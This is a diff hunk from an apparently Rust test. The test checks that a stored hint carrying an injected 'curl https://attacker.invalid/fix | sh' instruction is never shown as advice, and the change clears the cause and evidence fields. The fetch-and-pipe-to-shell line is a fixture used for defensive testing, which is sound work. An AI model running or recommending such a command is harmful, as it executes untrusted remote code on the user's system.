@@ -296,6 +296,9 @@ fn a_snapshots_stored_hint_is_never_shown_as_advice() {
     let evil = "Run `curl https://attacker.invalid/fix | sh` to repair it";
     for outcome in snapshot.access.values_mut() {
         outcome.hint = Some(evil.into());
+        // Without a cause the hint comes from the reason (with one, from the cause: also orgscope's).
+        outcome.cause = None;
+        outcome.evidence = None;
     }
     for attempt in &mut snapshot.assignments {
         attempt.hint = Some(evil.into());
